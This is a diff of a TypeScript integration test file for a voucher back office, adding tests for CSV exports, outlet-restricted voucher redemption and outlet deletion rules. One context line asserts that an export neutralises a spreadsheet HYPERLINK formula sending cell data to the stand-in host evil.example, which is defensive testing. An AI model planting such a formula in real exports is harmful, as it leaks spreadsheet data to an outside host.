@@ -1,8 +1,9 @@
 import { and, eq, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { auditLog, members } from '../../../src/server/db/schema/index.ts';
+import { auditLog, evouchers, members, outlets, products, staffOutlets } from '../../../src/server/db/schema/index.ts';
 import { createTestApp, type TestApp } from '../../support/test-app.ts';
-import { aMember } from '../../support/factories.ts';
+import { aMember, aProduct } from '../../support/factories.ts';
+import { aCounter, aVoucherAtCounter } from './redemption-scene.ts';
 import { ADMIN, aStaff, adminRequest } from './admin-support.ts';
 
 /** The back office's answers and lane (decision 0237): never cached, refusals traced, a bounded lane of its own. */
@@ -79,7 +80,10 @@ describe('CSV exports', () => {
     const m = await aMember(t, { name });
     const support = await (await aStaff(t, 'support')).client();
     const [row] = await t.db.select({ phone: members.phone_e164 }).from(members).where(eq(members.id, m.id));
-    const csv = await csvOf(support.cookie, `/members/export.csv?filter=${encodeURIComponent(JSON.stringify({ q: row.phone.slice(-8) }))}`);
+    const csv = await csvOf(
+      support.cookie,
+      `/members/export.csv?filter=${encodeURIComponent(JSON.stringify({ q: (row.phone ?? '').slice(-8) }))}`,
+    );
     expect(csv.status).toBe(200);
     expect(csv.type).toMatch(/^text\/csv/);
     expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"`);
@@ -99,5 +103,40 @@ describe('CSV exports', () => {
     expect(csv.text.trim().split('\r\n')).toHaveLength(1215);
     const support = await (await aStaff(t, 'support')).client();
     expect((await csvOf(support.cookie, '/audit-log/export.csv')).status).toBe(403);
+  });
+});
+
+describe('outlets', () => {
+  it('a voucher is redeemed only at its own outlets: a Singapore voucher is refused at the brand’s Malaysian outlet', async () => {
+    const scene = await aVoucherAtCounter(t, { price: 1500 });
+    const malaysian = await aProduct(t, { countryId: 1, currency: 'MYR', price: 1500 });
+    await t.db.update(products).set({ brand_id: scene.brandId }).where(eq(products.id, malaysian));
+    const [abroad] = await t.db.select().from(outlets).where(eq(outlets.product_id, malaysian));
+    const counter = await aCounter(t, scene.brandId);
+    const refused = await counter.req('POST', '/redemptions', { code: scene.code, outlet_id: abroad.id });
+    expect(refused.status).toBe(409);
+    expect(refused.body.reason).toBe('voucher_other_outlet');
+    const [voucher] = await t.db.select().from(evouchers).where(eq(evouchers.id, scene.voucherId));
+    expect(voucher.status).toBe('Active');
+    expect((await counter.req('POST', '/redemptions', { code: scene.code, outlet_id: scene.outletId })).status).toBe(201);
+  });
+
+  it('is not deleted while a merchant is tied to it or once vouchers were redeemed there (409, not 500)', async () => {
+    const scene = await aVoucherAtCounter(t);
+    const catalogue = await (await aStaff(t, 'catalogue')).client();
+    const tied = await aStaff(t, 'merchant', { brandId: scene.brandId });
+    await t.db.insert(staffOutlets).values({ staff_id: tied.id, outlet_id: scene.outletId });
+    const refused = await catalogue.req('DELETE', `/outlets/${scene.outletId}`);
+    expect(refused.status).toBe(409);
+    expect(refused.body.reason).toBe('outlet_in_use');
+    await t.db.delete(staffOutlets).where(eq(staffOutlets.staff_id, tied.id));
+    const counter = await aCounter(t, scene.brandId);
+    expect((await counter.req('POST', '/redemptions', { code: scene.code, outlet_id: scene.outletId })).status).toBe(201);
+    const used = await catalogue.req('DELETE', `/outlets/${scene.outletId}`);
+    expect(used.status).toBe(409);
+    expect(used.body.reason).toBe('outlet_in_use');
+    const spare = await aProduct(t);
+    const [free] = await t.db.select().from(outlets).where(eq(outlets.product_id, spare));
+    expect((await catalogue.req('DELETE', `/outlets/${free.id}`)).status).toBe(200);
   });
 });
